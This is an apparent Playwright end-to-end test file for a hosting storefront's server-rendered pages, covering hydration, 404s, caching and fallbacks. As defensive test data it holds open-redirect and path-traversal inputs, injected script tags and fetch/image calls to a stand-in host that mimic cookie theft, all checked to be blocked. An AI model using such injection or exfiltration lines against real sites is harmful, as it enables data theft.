// Server-rendered public pages (issue 21 items 1, 3 and 5): content and title in the HTML before any script, a
// hydration without mismatch and without a second request for the page's data, the client-rendered page when a
// remote's server bundle cannot be reached, and a cached page that carries no customer's data.
import { spawn, type ChildProcess } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import http from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { request, type Page } from '@playwright/test';
import { E2E } from '../env';
import { addDomainAs, apiLogin, createCustomer, expect, gotoHydrated, test, useSession as storeSession } from '../fixtures';

/** Public pages and the main heading each shows without scripts. */
const PAGES: [path: string, heading: RegExp][] = [
  ['/', /Join the Hosting Revolution/],
  ['/blog', /^Blog$/],
  ['/privacy-policy', /Privacy Policy/],
  ['/terms-of-service', /Terms/],
  ['/return-policy', /Return/],
  ['/about', /About us/],
  ['/contact-us', /Contact us/],
  ['/help', /.+/],
  ['/pricing', /Pricing Plans/],
  ['/services-list/1', /.+/],
  ['/search', /Find your domain/],
  ['/transfer-domain', /Transfer your domain/],
  ['/buy-domain', /Buy a domain/],
];

async function firstPostPath(): Promise<string> {
  const api = await request.newContext({ baseURL: E2E.api });
  try {
    const posts = (await (await api.get('/blog/blogposts/')).json()) as { id: number; slug?: string }[];
    expect(posts.length).toBeGreaterThan(0);
    return `/blog/blogpost/${posts[0]!.slug ?? posts[0]!.id}`;
  } finally {
    await api.dispose();
  }
}

/** Errors React reports when a server-rendered page does not hydrate as rendered. */
const HYDRATION = /hydrat|did not match|Minified React error #(418|419|422|423|425)|server rendered HTML/i;

function watchConsole(page: Page): string[] {
  const problems: string[] = [];
  page.on('console', (message) => {
    if ((message.type() === 'error' || message.type() === 'warning') && HYDRATION.test(message.text())) problems.push(message.text());
  });
  page.on('pageerror', (error) => {
    if (HYDRATION.test(error.message)) problems.push(error.message);
  });
  return problems;
}

/** GET through node:http, as sent: no path normalised, and only the headers given (Accept: text/html by default). */
const rawGet = (path: string, headers: Record<string, string> = { Accept: 'text/html' }) =>
  new Promise<{ status: number; body: string; headers: http.IncomingHttpHeaders }>((resolve, reject) => {
    const url = new URL(E2E.storefront);
    http
      .get({ host: url.hostname, port: url.port, path, headers }, (res) => {
        let body = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => (body += chunk));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body, headers: res.headers }));
      })
      .on('error', reject);
  });

test.describe('without scripts', () => {
  test.use({ javaScriptEnabled: false });

  test('every public page has its heading, content and title in the HTML', async ({ page }) => {
    const post = await firstPostPath();
    // A post at its address in the blog and at the alias the spec also routes (/blogpost/{slug}).
    const posts: [string, RegExp][] = [[post, /.+/], [post.replace('/blog/blogpost/', '/blogpost/'), /.+/]];
    for (const [path, heading] of [...PAGES, ...posts]) {
      const response = await page.goto(path);
      expect(response?.status(), path).toBe(200);
      expect(response?.headers()['x-storefront-render'], path).toMatch(/^server/);
      expect(response?.headers()['cache-control'], path).toBe('public, max-age=0, s-maxage=10, stale-while-revalidate=60');
      await expect(page.getByRole('heading', { level: 1 }).first(), path).toHaveText(heading);
      await expect(page.getByRole('banner'), path).toBeVisible();
      await expect(page.getByRole('contentinfo'), path).toBeVisible();
      // The page's own title (PageMeta's 'X | HostHub'), in <head> and once: not the template's default.
      expect(await page.title(), path).toMatch(/\| HostHub$/);
      await expect(page.locator('head title'), path).toHaveCount(1);
      await expect(page.locator('head meta[name="description"]'), path).toHaveCount(1);
      await expect(page.locator('head link[rel="canonical"]'), path).toHaveAttribute('href', new RegExp(`^${E2E.storefront}/`));
    }
  });

  test('a path nobody owns is the 404 page, with status 404', async ({ page }) => {
    const response = await page.goto('/no-such-page-anywhere');
    expect(response?.status()).toBe(404);
    await expect(page.getByRole('heading', { level: 1, name: 'Page Not Found' })).toBeVisible();
  });

  test('a blog post that does not exist answers 404, not a page that says so with 200 (a soft 404)', async ({ page }) => {
    const response = await page.goto('/blog/blogpost/no-such-post-anywhere');
    expect(response?.status()).toBe(404);
    expect(response?.headers()['x-storefront-render']).toMatch(/^server/);
    await expect(page.getByRole('banner')).toBeVisible();
    // The page says so in the HTML (it said 'Loading the post…'), and is not for search engines.
    await expect(page.getByText('Something went wrong while fetching the blogpost.')).toBeVisible();
    await expect(page.locator('head meta[name="robots"]')).toHaveAttribute('content', 'noindex');
  });

  test('a hosting service that does not exist answers 404 too, with the page that says so', async ({ page }) => {
    const response = await page.goto('/services-list/999999');
    expect(response?.status()).toBe(404);
    expect(response?.headers()['x-storefront-render']).toMatch(/^server/);
    await expect(page.getByRole('heading', { level: 1, name: 'Service not found' })).toBeVisible();
  });

  test('a path with dot segments a raw client sent is the 404 page with status 404, not 200', async () => {
    // Playwright resolves '/%2e%2e/' as a browser would: the raw request goes out through node:http.
    const dots = await rawGet('/%2e%2e/');
    expect(dots.status).toBe(404);
    expect(dots.body).toContain('Page Not Found');
    expect((await rawGet('/')).status).toBe(200);
  });

  test('a crawler or link-preview fetcher that accepts anything, or sends no Accept, gets the rendered page; files stay files', async () => {
    const post = await firstPostPath();
    for (const headers of [{ Accept: '*/*' }, {}] as Record<string, string>[]) {
      for (const [path, heading] of [['/', 'Join the Hosting Revolution'], ['/blog', 'Blog'], ['/pricing', 'Simple and Flexible Pricing Plans']] as const) {
        const page = await rawGet(path, headers);
        expect(page.headers['x-storefront-render'], `${path} ${JSON.stringify(headers)}`).toMatch(/^server/);
        expect(page.body, path).toContain(heading);
        expect(page.body, path).toMatch(/<title\b[^>]*>[^<]+\| HostHub<\/title>/);
      }
      const shared = await rawGet(post, headers);
      expect(shared.body).toMatch(/<meta\b[^>]*property="og:title" content="[^"]+"/);
    }
    // A file is the file whatever the Accept header says: config.json, robots.txt.
    expect(JSON.parse((await rawGet('/config.json', {})).body)).toHaveProperty('remotes');
    expect((await rawGet('/robots.txt', {})).body).toContain('Disallow: /dashboard');
  });

  test("the shell's addresses that lead elsewhere are redirects", async ({ page, request }) => {
    const redirects: [path: string, to: string][] = [
      ['/login', '/auth'],
      ['/reset-password/MQ/abc-123', '/auth/reset-password/MQ/abc-123'],
    ];
    for (const [path, to] of redirects) {
      const response = await request.get(path, { headers: { Accept: 'text/html' }, maxRedirects: 0 });
      expect(response.status(), path).toBe(302);
      expect(response.headers()['location'], path).toBe(to);
      // Kept by no cache: a reset link's address carries its token.
      expect(response.headers()['cache-control'], path).toBe('no-store');
    }
    // Followed by a browser without scripts: it lands on the page itself.
    await page.goto('/login');
    await expect(page).toHaveURL(/\/auth$/);
  });

  test('addresses made to lead off the site, name another host or break the page do none of it', async () => {
    // The reset link's redirect stays under the reset page: dot segments and empty ones are dropped.
    for (const sneaky of ['/reset-password/..%2f..%2f%2fevil.example%2fpath', '/reset-password/..%5C..%5C%5Cevil.example%5Cpath']) {
      const response = await rawGet(sneaky);
      expect([sneaky, response.status, response.headers['location']]).toEqual([sneaky, 302, '/auth/reset-password/evil.example/path']);
    }
    // A path that starts with two slashes is a path: its canonical and og:url are on this origin.
    const twice = await rawGet('//evil.example/about');
    expect(twice.body).toContain(`rel="canonical" href="${E2E.storefront}/evil.example/about"`);
    expect(twice.body).not.toContain('//evil.example/about"');
    // A line break in the path matches no route (it was an empty page, 200, kept by shared caches): a 400 none keeps.
    for (const broken of ['/blog/blogpost/%0A', '/about%E2%80%A8']) {
      const response = await rawGet(broken);
      expect([broken, response.status, response.headers['cache-control']]).toEqual([broken, 400, 'no-store']);
    }
  });

  test("forms without scripts: the home search goes to the search page; the contact form's message stays out of the URL", async ({ page }) => {
    await page.goto('/');
    const search = page.locator('form[action="/search"]');
    await search.getByLabel('Domain name').fill('example.com');
    await search.getByRole('button', { name: 'Search' }).click();
    await expect(page).toHaveURL(/\/search\?query=example\.com$/);
    await expect(page.getByRole('heading', { level: 1 }).first()).toHaveText(/Find your domain/);
    await page.goto('/contact-us');
    await page.getByLabel('Email Address').fill('jane@example.com');
    const sent = page.waitForRequest((r) => new URL(r.url()).pathname === '/contact-us' && r.isNavigationRequest());
    await page.getByRole('button', { name: 'Send Message' }).click();
    const request = await sent;
    expect([request.method(), request.url()]).toEqual(['POST', `${E2E.storefront}/contact-us`]);
  });

  test('protected and personal pages stay client-rendered', async ({ page }) => {
    for (const path of ['/dashboard', '/account-settings', '/staff', '/auth', '/cart']) {
      const response = await page.goto(path);
      expect(response?.headers()['x-storefront-render'], path).toBe('client');
      expect(response?.headers()['cache-control'], path).toBe('no-cache');
    }
  });
});

test.describe('with scripts', () => {
  test('public pages hydrate without a mismatch and ask for their data once', async ({ page }) => {
    // Fifteen pages, each until it is hydrated and the network is idle: 16-28 s here, more on a busy machine.
    test.setTimeout(120_000);
    const problems = watchConsole(page);
    // The API's GET requests of the page on screen: emptied when a page is committed, so that a request the page
    // before made while the next one was on its way is not counted as this one's.
    const api: string[] = [];
    page.on('framenavigated', (frame) => {
      if (frame === page.mainFrame()) api.length = 0;
    });
    page.on('request', (r) => {
      if (r.url().startsWith(E2E.api) && r.method() === 'GET') api.push(new URL(r.url()).pathname + new URL(r.url()).search);
    });
    const visit = (path: string) => gotoHydrated(page, path);
    const post = await firstPostPath();
    // A post at its address in the blog and at the alias the spec also routes (/blogpost/{slug}).
    const posts: [string, RegExp][] = [[post, /.+/], [post.replace('/blog/blogpost/', '/blogpost/'), /.+/]];
    for (const [path, heading] of [...PAGES, ...posts]) {
      const response = await visit(path);
      if (response?.headers()['x-storefront-render'] === 'client') {
        // Not rendered within its budget (the API slow for a moment while other journeys run): the render went on,
        // and the next visitor gets the page from the cache, which is what this test is about.
        await visit(path);
      }
      await expect(page.getByRole('heading', { level: 1 }).first(), path).toHaveText(heading);
      await page.waitForLoadState('networkidle');
      // The page is live: client-side navigation works from it.
      expect(await page.evaluate(() => document.getElementById('root')?.hasAttribute('data-ssr')), path).toBe(true);
      const twice = api.filter((url, i) => api.indexOf(url) !== i);
      expect(twice, `${path}: data asked for twice`).toEqual([]);
    }
    expect(problems).toEqual([]);
  });

  test('a post that does not exist hydrates as rendered: it is not asked for again, and nothing is thrown', async ({ page }) => {
    const problems = watchConsole(page);
    page.on('pageerror', (error) => problems.push(error.message));
    const asked: string[] = [];
    page.on('request', (r) => r.url().startsWith(E2E.api) && /\/blog\/blogposts?\//.test(r.url()) && asked.push(r.url()));
    const response = await gotoHydrated(page, '/blog/blogpost/no-such-post-anywhere');
    expect(response?.status()).toBe(404);
    await page.waitForLoadState('networkidle');
    await expect(page.getByText('Something went wrong while fetching the blogpost.')).toBeVisible();
    expect(asked).toEqual([]);
    expect(problems).toEqual([]);
  });

  test('a name typed and checked on the transfer page before its scripts arrive is checked, and stays in the box', async ({ page }) => {
    // Scripts 1.5 s late: the visitor types into the server's HTML and presses Check before the page hydrates (the
    // page's mount used to set the box back to the empty query, wiping the text and the check, 2 tries in 5).
    await page.route(/\.js(\?|$)/, async (route) => {
      await new Promise((r) => setTimeout(r, 1500));
      await route.continue();
    });
    await page.goto('/transfer-domain', { waitUntil: 'commit' });
    const box = page.getByLabel('Domain name').first();
    await box.pressSequentially('example.org', { delay: 40 });
    await page.getByRole('button', { name: 'Check' }).click();
    await expect(page).toHaveURL(/\/transfer-domain\?query=example\.org$/, { timeout: 15_000 });
    await expect(box).toHaveValue('example.org');
    await expect(page.getByRole('heading', { name: 'example.org' })).toBeVisible();
  });

  test('a reload leaves the visitor where they were on the page (the start does not scroll it back to the top)', async ({ page }) => {
    await gotoHydrated(page, '/');
    await page.evaluate(() => window.scrollTo(0, 1500));
    await expect.poll(() => page.evaluate(() => window.scrollY)).toBe(1500);
    const hydrated = page.waitForResponse((r) => r.url().startsWith(`${E2E.api}/api/cart/`));
    await page.reload();
    await hydrated;
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate(() => window.scrollY)).toBeGreaterThan(1000);
    // A route change still starts the next page at its top. The footer's link is followed from the keyboard: a click
    // there, at the foot of a long page laid out as it comes into view, once went to no link in CI (the address stayed
    // '/'; not seen again here in 75 runs, some beside busy loops); Enter reaches the link wherever it is drawn.
    const about = page.getByRole('contentinfo').getByRole('link', { name: 'About' });
    await about.focus();
    await about.press('Enter');
    await expect(page).toHaveURL(/\/about$/);
    await expect.poll(() => page.evaluate(() => window.scrollY)).toBe(0);
  });

  test('links work after hydration (client-side navigation)', async ({ page }) => {
    await page.goto('/about');
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Blog' }).click();
    await expect(page).toHaveURL(/\/blog$/);
    await expect(page.getByRole('heading', { level: 1, name: 'Blog' })).toBeVisible();
  });
});

test("the header's links stay where they are when the customer's account menu and cart count arrive after hydration", async ({ page }) => {
  // Both are personal, so a server-rendered page carries the visitor's header (Login, Get Started, no count) and the
  // customer's follows once the scripts run. The links sat beside the account part and moved with it (126 px at
  // 1280 px), and the count pushed them along by its width (28 px): a click on 'Blog' at that moment went elsewhere.
  const customer = await createCustomer('still');
  await addDomainAs(customer.session.access, `${customer.username}.com`);
  await storeSession(page, customer.session);
  for (const width of [1280, 900]) {
    await page.setViewportSize({ width, height: 720 });
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    await page.route(/\.js(\?|$)/, async (route) => {
      await held;
      await route.continue();
    });
    await page.goto('/blog', { waitUntil: 'commit' });
    const links = page.getByRole('navigation', { name: 'Main' }).getByRole('link');
    await expect(links).toHaveCount(4);
    await expect(page.getByRole('banner').getByRole('link', { name: 'Login' })).toBeVisible();
    const before = await Promise.all((await links.all()).map((link) => link.boundingBox()));
    release();
    await expect(page.getByRole('banner').getByRole('button', { name: 'Account' })).toBeVisible();
    await expect(links.filter({ hasText: 'Cart' }).getByLabel('1 item in cart')).toBeVisible();
    expect(await Promise.all((await links.all()).map((link) => link.boundingBox()))).toEqual(before);
    await page.unrouteAll();
  }
});

test('a cached page holds no customer data: two customers, one HTML for /', async ({ browser }) => {
  test.setTimeout(120_000);
  const customers = [await createCustomer('ssra'), await createCustomer('ssrb')];
  const api = await request.newContext({ baseURL: E2E.api });
  const services = (await (await api.get('/api/services/')).json()) as { id: number; hosting_plans: { id: number }[] }[];
  const service = services.find((s) => s.hosting_plans.length)!;
  const htmls: string[] = [];
  for (const [i, customer] of customers.entries()) {
    // Customer A has one item in the cart, customer B two: the counts differ.
    for (let n = 0; n <= i; n++) {
      const add = await api.post('/api/cart/', {
        headers: { Authorization: `Bearer ${customer.session.access}` },
        data: { service_id: service.id, product_id: service.hosting_plans[n % service.hosting_plans.length]!.id, currency: 'USD' },
      });
      expect(add.ok(), await add.text()).toBeTruthy();
    }
    const context = await browser.newContext();
    const page = await context.newPage();
    await storeSession(page, customer.session);
    const cartReads: string[] = [];
    page.on('request', (r) => r.method() === 'GET' && new URL(r.url()).pathname === '/api/cart/' && cartReads.push(r.url()));
    const response = await page.goto('/');
    htmls.push(await response!.text());
    // After hydration the header is the customer's own: account menu and cart count.
    await expect(page.getByRole('button', { name: /Account/ })).toBeVisible();
    await expect(page.getByRole('navigation', { name: 'Main' }).getByLabel(`${i + 1} item${i ? 's' : ''} in cart`)).toBeVisible();
    // The count is asked for once (the end of hydration asked again).
    await page.waitForLoadState('networkidle');
    expect(cartReads).toHaveLength(1);
    await context.close();
  }
  await api.dispose();
  for (const html of htmls) {
    for (const customer of customers) {
      expect(html).not.toContain(customer.username);
      expect(html).not.toContain(customer.email);
    }
    expect(html).not.toMatch(/item(s)? in cart/);
    expect(html).not.toContain('>Account<');
    expect(html).toContain('>Login<');
  }
});

test('a script put into a page does not run, nor send anything to another site; our own scripts do, rendered on the server or in the browser', async ({ browser }) => {
  // A context of its own: the refusal this test causes is what it looks for (the fixture fails on any).
  const context = await browser.newContext();
  const refused: string[] = [];
  context.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) refused.push(message.text());
  });
  try {
    const page = await context.newPage();
    // What a stored cross-site script would look like in the HTML: an inline script, and one from another origin.
    await page.route(/\/(pricing|dashboard)$/, async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace(
        '</body>',
        '<script>window.__injected = true</script><script src="http://127.0.0.1:9/evil.js"></script></body>',
      );
      await route.fulfill({ response, body: html });
    });
    for (const [path, render] of [['/pricing', /^server/], ['/dashboard', /^client$/]] as const) {
      const response = await page.goto(path);
      expect(response?.headers()['x-storefront-render'], path).toMatch(render);
      expect(response?.headers()['content-security-policy'], path).toMatch(/script-src 'self' .*'sha256-/);
      // Our own scripts ran: the page is live (the header's Cart link is React's, the login form answers).
      await expect(page.getByRole('link', { name: /Cart/ }).first()).toBeVisible();
      await page.waitForFunction(() => document.querySelector('#root')?.hasChildNodes() && Object.keys(document.querySelector('#root > *') ?? {}).some((k) => k.startsWith('__react')));
      expect(await page.evaluate(() => (window as { __injected?: boolean }).__injected), path).toBeUndefined();
      // A script that did get in could not send what it read to another site: neither by a request nor by a picture's
      // address (the page may fetch from the API and the remotes only; pictures over http only from those too).
      const stopped = await page.evaluate(
        () =>
          new Promise<string[]>((resolve) => {
            const directives: string[] = [];
            document.addEventListener('securitypolicyviolation', (event) => {
              directives.push(event.effectiveDirective);
              if (directives.length === 2) resolve(directives.sort());
            });
            void fetch('http://127.0.0.1:9/steal?cookie=1').catch(() => undefined);
            new Image().src = 'http://127.0.0.1:9/steal.png?cookie=1';
          }),
      );
      expect(stopped, path).toEqual(['connect-src', 'img-src']);
    }
    await expect.poll(() => refused.length).toBeGreaterThanOrEqual(2);
    expect(refused.every((text) => /inline script|evil\.js|127\.0\.0\.1:9/.test(text)), refused.join('\n')).toBe(true);
  } finally {
    await context.close();
  }
});

test('a staff edit shows on the very next page: no rendered page or content version outlives it', async ({ request: visitor, page: browser }) => {
  const admin = await apiLogin('admin', 'admin-pass-2024', 'admin@hosthub.test');
  const api = await request.newContext({ baseURL: E2E.api, extraHTTPHeaders: { Authorization: `Token ${admin.access}` } });
  const posts = (await (await api.get('/staff/content/posts/')).json()) as { id: number; title: string; published: boolean }[];
  // The last published post: staff.spec.ts edits the first one's title in another worker, and this test's own edits and
  // its restore would overwrite that edit.
  const post = posts.filter((p) => p.published).at(-1)!;
  try {
    let rendered = 0;
    for (const n of [1, 2, 3, 4]) {
      // /blog rendered (and cached) with the current title, then the edit, then /blog at once: the new title, or the
      // page sent client-rendered when its render takes longer than the server waits (never the old title).
      const page = async () => (await visitor.get('/blog', { headers: { Accept: 'text/html' } })).text();
      const before = await page();
      expect(before).not.toContain(`Fresh title ${n}`);
      const edit = await api.patch(`/staff/content/posts/${post.id}/`, { data: { title: `Fresh title ${n}` } });
      expect(edit.ok(), await edit.text()).toBeTruthy();
      const after = await page();
      expect(after).not.toContain(`Fresh title ${n - 1}<`);
      if (after.includes('<div id=root></div>')) continue;
      expect(after).toContain(`Fresh title ${n}`);
      rendered += 1;
    }
    expect(rendered, 'at least one page rendered on the server after an edit').toBeGreaterThan(0);
    // A browser that saw /blog does not show it again from its own cache (max-age=0: it asks the server each time).
    await browser.goto('/blog');
    await expect(browser.getByText('Fresh title 4').first()).toBeVisible();
    await api.patch(`/staff/content/posts/${post.id}/`, { data: { title: 'Fresh title 5' } });
    await browser.goto('/blog');
    await expect(browser.getByText('Fresh title 5').first()).toBeVisible();
  } finally {
    await api.patch(`/staff/content/posts/${post.id}/`, { data: { title: post.title } });
    await api.dispose();
  }
});

test('a page past its 10 s is sent stale at once, and rendered again 1.5 s later: not while its visitor loads the rest', async () => {
  test.setTimeout(90_000);
  // An address of this test's own (a query string: cached apart), so no other test renders it meanwhile.
  const url = `${E2E.storefront}/about?revalidate=${Date.now()}`;
  const state = async () => (await fetch(url, { headers: { Accept: 'text/html' } })).headers.get('x-storefront-render');
  const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
  // A staff edit in another worker makes the page a new one (cache=miss): then it starts again.
  for (let attempt = 1; ; attempt++) {
    expect(await state()).toMatch(/^server; cache=(miss|hit)$/);
    await sleep(10_500);
    const first = await state();
    const sentAt = Date.now();
    if (first !== 'server; cache=stale' && attempt < 3) continue;
    expect(first).toBe('server; cache=stale');
    await sleep(700);
    const meanwhile = await state();
    if (meanwhile === 'server; cache=miss' && attempt < 3) continue;
    // Not rendered yet: a render started with the stale answer is done by now (tens of ms on this machine).
    expect(meanwhile).toBe('server; cache=stale');
    let now = meanwhile;
    while (now === 'server; cache=stale' && Date.now() - sentAt < 15_000) {
      await sleep(100);
      now = await state();
    }
    if (now === 'server; cache=miss' && attempt < 3) continue;
    expect(now).toBe('server; cache=hit');
    expect(Date.now() - sentAt).toBeGreaterThanOrEqual(1500);
    return;
  }
});

/** A second storefront server on `port`, with `env` over the stack's; stopped after the describe's tests. */
function secondServer(port: number, env: Record<string, string>) {
  let server: ChildProcess | null = null;
  test.beforeAll(async () => {
    server = spawn(process.execPath, ['scripts/ssr-server.mjs'], {
      cwd: path.join(__dirname, '..', '..'),
      env: { ...process.env, ...E2E.env, SSR_PORT: String(port), ...env },
      stdio: 'ignore',
    });
    for (let i = 0; i < 100; i++) {
      const up = await fetch(`http://localhost:${port}/config.json`).then((r) => r.ok, () => false);
      if (up) return;
      await new Promise((r) => setTimeout(r, 200));
    }
    throw new Error('the second storefront server did not start');
  });
  test.afterAll(() => {
    server?.kill('SIGTERM');
  });
}
const storefrontPort = Number(new URL(E2E.storefront).port || 4000);

test.describe('a remote whose server bundle cannot be reached', () => {
  // Told that mf_content's server bundle is at a dead address.
  const port = storefrontPort + 9;
  secondServer(port, { SSR_REMOTE_URLS: JSON.stringify({ mf_content: 'http://127.0.0.1:9/server/mf-manifest.json' }) });

  test('its pages are sent client-rendered and work; other remotes still render on the server', async ({ page }) => {
    const problems = watchConsole(page);
    const response = await page.goto(`http://localhost:${port}/about`);
    expect(response?.status()).toBe(200);
    expect(response?.headers()['x-storefront-render']).toBe('client');
    await expect(page.getByRole('heading', { level: 1, name: 'About us' })).toBeVisible();
    const other = await page.goto(`http://localhost:${port}/pricing`);
    expect(other?.headers()['x-storefront-render']).toMatch(/^server/);
    await expect(page.getByRole('heading', { level: 1, name: /Pricing Plans/ })).toBeVisible();
    expect(problems).toEqual([]);
  });
});

test.describe('config.local.json edited into bad JSON', () => {
  const port = storefrontPort + 7;
  const file = path.join(tmpdir(), `storefront-config-local-${port}.json`);
  writeFileSync(file, '{}');
  secondServer(port, { STOREFRONT_CONFIG_LOCAL: file });

  test('the last good config stays in use: pages, config.json and robots.txt still answer (every answer was a 500)', async () => {
    const get = (p: string) => fetch(`http://localhost:${port}${p}`, { headers: { Accept: 'text/html' } });
    expect((await get('/about')).status).toBe(200);
    try {
      writeFileSync(file, '{"remotes": {');
      for (const p of ['/about', '/config.json', '/robots.txt']) expect([p, (await get(p)).status]).toEqual([p, 200]);
      expect(await (await get('/config.json')).json()).toHaveProperty('remotes.mf_content');
    } finally {
      writeFileSync(file, '{}');
    }
  });
});

test.describe('render threads that are full', () => {
  // No page may be under way: every thread is always full.
  const port = storefrontPort + 10;
  secondServer(port, { SSR_MAX_PENDING: '0' });

  test('pages go out client-rendered at once, whole, and none is kept as rendered', async ({ page }) => {
    for (let i = 0; i < 2; i++) {
      const response = await page.goto(`http://localhost:${port}/about`);
      expect(response?.status()).toBe(200);
      expect(response?.headers()['x-storefront-render']).toBe('client');
      await expect(page.getByRole('heading', { level: 1, name: 'About us' })).toBeVisible();
    }
  });
});

test.describe('a page not rendered within its budget', () => {
  // A budget of 1 ms: no page is ever rendered within it.
  const port = storefrontPort + 8;
  secondServer(port, { SSR_BUDGET_MS: '1' });

  test('goes out client-rendered, and its render goes on: the next visitor gets the page rendered, from the cache', async () => {
    const about = () => fetch(`http://localhost:${port}/about`, { headers: { Accept: 'text/html' } });
    const first = await about();
    expect(first.status).toBe(200);
    expect(first.headers.get('x-storefront-render')).toBe('client');
    expect(await first.text()).not.toMatch(/<div id="?root"?[^>]* data-ssr/);
    let later = await about();
    for (let i = 0; i < 60 && later.headers.get('x-storefront-render') === 'client'; i++) {
      await new Promise((r) => setTimeout(r, 250));
      later = await about();
    }
    expect(later.headers.get('x-storefront-render')).toBe('server; cache=hit');
    const html = await later.text();
    expect(html).toMatch(/<div id="?root"?[^>]* data-ssr/);
    expect(html).toMatch(/<h1[^>]*>About us/);
  });
});

test.describe("an API whose content version cannot be read", () => {
  // The renders' API is a proxy to the stack's that fails GET /content/version/ and passes everything else on.
  const port = storefrontPort + 11;
  const proxyPort = storefrontPort + 12;
  let proxy: http.Server | null = null;
  test.beforeAll(async () => {
    const api = new URL(E2E.api);
    proxy = http.createServer((req, res) => {
      if (req.url?.startsWith('/content/version/')) return void res.writeHead(503).end();
      const forward = http.request({ host: api.hostname, port: api.port, path: req.url, method: req.method, headers: { ...req.headers, host: api.host } }, (answer) => {
        res.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(res);
      });
      forward.on('error', () => res.writeHead(502).end());
      req.pipe(forward);
    });
    await new Promise<void>((resolve) => proxy!.listen(proxyPort, '127.0.0.1', resolve));
  });
  test.afterAll(() => new Promise<void>((resolve) => (proxy ? proxy.close(() => resolve()) : resolve())));
  secondServer(port, { API_BASE_URL: `http://127.0.0.1:${proxyPort}` });

  test('pages are still rendered on the server, each afresh: none comes from the cache, where a staff edit could be missed', async () => {
    const about = () => fetch(`http://localhost:${port}/about`, { headers: { Accept: 'text/html' } });
    for (let i = 0; i < 3; i++) {
      const response = await about();
      expect(response.status).toBe(200);
      expect(response.headers.get('x-storefront-render')).toBe('server; cache=miss');
      expect(await response.text()).toMatch(/<h1[^>]*>About us/);
    }
  });
});
